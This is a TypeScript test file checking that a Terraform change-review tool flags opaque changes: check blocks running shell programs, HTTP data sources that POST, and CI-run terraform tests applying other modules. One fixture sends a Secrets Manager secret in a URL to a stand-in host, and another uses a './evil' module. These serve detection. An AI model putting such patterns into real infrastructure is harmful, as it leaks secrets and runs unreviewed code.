import { describe, expect, test } from 'vitest';
import { nodePool } from '../src/engine/changes/plan/plan.test-support.ts';
import { opaqueBetween } from './opaque-between.ts';
import type { Texts } from './plans-between.ts';

const pool = `resource "kubectl_manifest" "pool" {\n  yaml_body = <<-EOT\n${nodePool('terraform')}EOT\n}\n`;
const check = (body: string): string =>
  `check "health" {\n${body}  assert {\n    condition     = true\n    error_message = "x"\n  }\n}\n`;
const external = (word: string): string => `  data "external" "e" {\n    program = ["sh", "-c", "${word}"]\n  }\n`;
const page = (body: string): string => `  data "http" "e" {\n${body}  }\n`;
const url = '    url = "https://shop.example/healthz"\n';
const around: Texts = { 'tf/main.tf': pool };
const bucket = 'resource "aws_s3_bucket" "x" {\n  bucket = "x"\n}\n';

describe('T95: what a check of Terraform runs is opaque', () => {
  test.each<[string, string, string, Texts]>([
    ['a new check with a program', '', check(external('a')), around],
    ['another program', check(external('a')), check(external('b')), around],
    [
      'a program in a module',
      '',
      check(external('a')),
      { 'main.tf': `module "m" {\n  source = "./tf"\n}\n`, ...around },
    ],
    ['a program next to buckets', bucket, `${bucket}${check(external('a'))}`, {}],
    [
      'a local that a program has',
      `locals {\n  a = "1"\n}\n${check(external('${local.a}'))}`,
      `locals {\n  a = "2"\n}\n${check(external('${local.a}'))}`,
      around,
    ],
    ['a request that writes', check(page(url)), check(page(`${url}    method = "POST"\n`)), around],
    ['a request with a body', check(page(url)), check(page(`${url}    request_body = "x"\n`)), around],
    [
      'a request with a value',
      '',
      check(page('    url = "https://x.example/${data.aws_secretsmanager_secret_version.a.secret_string}"\n')),
      around,
    ],
    [
      'a request that writes in a data source',
      '',
      'data "http" "x" {\n  url = "https://x.example"\n  method = "POST"\n}\n',
      around,
    ],
    ['data of an unknown provider', '', check('  data "somebody_thing" "e" {\n    a = "b"\n  }\n'), around],
  ])('%s', async (_, before, after, others) => {
    expect(await opaqueBetween({ 'tf/x.tf': before, ...others }, { 'tf/x.tf': after, ...others })).toEqual(['tf/x.tf']);
  });

  test('a program in JSON', async () => {
    const json = JSON.stringify({ check: { health: { data: { external: { e: { program: ['sh'] } } } } } });
    expect(await opaqueBetween(around, { ...around, 'tf/x.tf.json': json })).toEqual(['tf/x.tf.json']);
  });

  test.each<[string, string, string]>([
    ['a page that it reads', '', check(page(url))],
    ['what it asserts', check(external('a')), check(external('a')).replace('= "x"', '= "y"')],
    ['an instance that it reads', '', check('  data "aws_instance" "e" {\n    instance_id = "i-1"\n  }\n')],
    ['a check without data', '', check('')],
    ['a comment', check(external('a')), `# why\n${check(external('a'))}`],
  ])('but not %s', async (_, before, after) => {
    expect(await opaqueBetween({ 'tf/x.tf': before, ...around }, { 'tf/x.tf': after, ...around })).toEqual([]);
  });
});

describe('T95: what a test of Terraform applies is opaque if a pipeline runs it', () => {
  const run = (body: string): string => `run "x" {\n${body}}\n`;
  const pipeline = (command: string): Texts => ({
    ...around,
    '.github/workflows/ci.yaml': `on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: ${command}\n`,
  });

  test.each<[string, string, string, string]>([
    [
      'another module',
      'tf/tests/x.tftest.hcl',
      run('  command = apply\n  module {\n    source = "./evil"\n  }\n'),
      'terraform test',
    ],
    ['the default command', 'tf/x.tftest.hcl', run(''), 'terraform -chdir=tf test'],
    [
      'a plan of another module',
      'tf/x.tftest.hcl',
      run('  command = plan\n  module {\n    source = "./evil"\n  }\n'),
      'tofu test',
    ],
    ['a plan in a comment', 'tf/x.tftest.hcl', run('  # command = plan\n'), 'terraform test'],
    ['a test of OpenTofu', 'tf/x.tofutest.hcl', run(''), 'tofu test'],
    ['a test in JSON', 'tf/x.tftest.json', '{"run": {"x": {"command": "apply"}}}', 'terraform test'],
  ])('%s', async (_, path, text, command) => {
    const base = pipeline(command);
    expect(await opaqueBetween(base, { ...base, [path]: text })).toEqual([path]);
  });

  test('a test that a rule of make runs', async () => {
    const base = { ...pipeline('make check'), Makefile: 'check:\n\tterraform test\n' };
    expect(await opaqueBetween(base, { ...base, 'tf/x.tftest.hcl': run('') })).toEqual(['tf/x.tftest.hcl']);
  });

  test.each<[string, string, string, string]>([
    ['a test that only plans', 'tf/tests/x.tftest.hcl', run('  command = plan\n'), 'terraform test'],
    ['a test that no pipeline runs', 'tf/x.tftest.hcl', run(''), 'terraform plan'],
    ['data for mocks', 'tf/x.tfmock.hcl', 'mock_data "aws_ami" {\n}\n', 'terraform test'],
  ])('but not %s', async (_, path, text, command) => {
    const base = pipeline(command);
    expect(await opaqueBetween(base, { ...base, [path]: text })).toEqual([]);
  });
});
